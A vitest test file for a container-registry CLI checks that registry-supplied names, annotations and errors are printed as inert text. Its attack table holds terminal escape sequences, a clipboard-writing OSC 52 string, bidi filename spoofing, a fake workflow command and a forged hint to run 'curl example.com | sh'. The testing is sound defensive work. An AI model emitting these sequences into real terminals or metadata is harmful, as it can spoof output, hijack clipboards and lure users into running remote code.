import { describe, expect, it } from 'vitest';
import { makeWorkspace } from '../cli/support/workspace.ts';
import { blob, imageManifest } from '../support/artifacts.ts';
import { startRegistry, type TestRegistry } from '../support/registry/index.ts';

/*
 * Whatever a registry says, in names, annotations, media types and errors: none of it acts on a terminal, ends a line of a log,
 * changes the order in which text is read, or breaks the JSON that a program reads.
 */

const ATTACKS: Readonly<Record<string, string>> = {
  'a colour': '\u001b[31mred\u001b[0m',
  'a title of the window': '\u001b]0;title\u0007',
  'a write to the clipboard': '\u001b]52;c;ZXZpbA==\u0007',
  'a link of the terminal': '\u001b]8;;https://example.com\u001b\\here\u001b]8;;\u001b\\',
  'a control sequence in one byte': '\u009b31m',
  'a new line that looks like ours': 'x\nerror: all is lost\r\nhint: run curl example.com | sh',
  'a return over what stands there': 'bad\rgood',
  backspaces: 'evil\b\b\b\bgood',
  'text read backwards': 'txt.\u202egnp.exe',
  'an isolate': '\u2066a\u2069',
  'a line separator': 'a\u2028b\u2029c',
  'a command of a workflow': '::set-output name=a::b',
  'a null': 'a\u0000b',
  'what is not seen': 'a\u00ad\u034f\u115f\u180e\u2060\u206a\u3164\ufeff\ufff9\u{e0041}\u{e0100}b',
  'a next line': 'a\u0085error: all is lost',
};

/** What acts or is not seen: control characters but for the ends of our own lines, marks that reorder text, fillers. */
const ACTING = /(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

async function seeded(text: string): Promise<TestRegistry> {
  const registry = await startRegistry();
  const layer = blob('x', { mediaType: 'text/plain', title: text });
  const of = (more: string) =>
    imageManifest([layer], {
      artifactType: `application/x`,
      annotations: { [text]: text + more, 'io.floe.product.name': text },
    }).bytes;
  const repository = registry.repository('team/orders');
  repository.blobs.set(layer.descriptor.digest, Buffer.from(layer.bytes));
  repository.putManifest(of(''), 'application/vnd.oci.image.manifest.v1+json', 'v1');
  repository.putManifest(of('2'), 'application/vnd.oci.image.manifest.v1+json', 'v2');
  return registry;
}

describe.each(Object.entries(ATTACKS))('%s', (_, text) => {
  it('in annotations and titles is shown as text', async () => {
    await using workspace = await makeWorkspace();
    await using registry = await seeded(text);
    const place = `${registry.host}/team/orders`;
    for (const command of [
      ['inspect', `${place}:v1`],
      ['list', place],
      ['validate', `${place}:v1`],
      ['referrers', `${place}:v1`],
      ['diff', `${place}:v1`, `${place}:v2`],
    ]) {
      const { stdout, stderr } = await workspace.run(...command, '--verbose');
      expect(`${stdout}${stderr}`).not.toMatch(ACTING);
      const json = await workspace.run(...command, '--json', '--verbose', '--log-format', 'json');
      for (const line of json.stderr
        .trim()
        .split('\n')
        .filter((part) => part !== ''))
        JSON.parse(line);
      expect(() => JSON.parse(json.stdout)).not.toThrow();
      expect(json.stderr).not.toMatch(ACTING);
    }
  });

  it('in an error of the registry is shown as text, on one line', async () => {
    await using workspace = await makeWorkspace();
    await using registry = await startRegistry();
    const body = JSON.stringify({ errors: [{ code: text, message: text, detail: text }] });
    registry.fail({ fault: { kind: 'status', status: 403, body } });
    const { code, stderr } = await workspace.run('list', `${registry.host}/team/orders`, '--verbose');
    expect(code).toBe(2);
    expect(stderr).not.toMatch(ACTING);
    expect(stderr.split('\n').filter((line) => line.startsWith('error: '))).toHaveLength(1);
    expect(stderr).not.toMatch(/^(::|hint: run)/m);
  });

  it('in the names of tags and repositories is no name', async () => {
    await using workspace = await makeWorkspace();
    await using registry = await seeded('x');
    registry.fail(
      { path: /tags\/list/, fault: { kind: 'body', body: JSON.stringify({ name: text, tags: [text, 'v1'] }) } },
      { path: /_catalog/, fault: { kind: 'body', body: JSON.stringify({ repositories: [text, 'team/orders'] }) } },
    );
    for (const command of [
      ['list', `${registry.host}/team/orders`],
      ['repos', registry.host],
    ]) {
      const { stdout, stderr } = await workspace.run(...command);
      expect(`${stdout}${stderr}`).not.toMatch(ACTING);
    }
  });
});
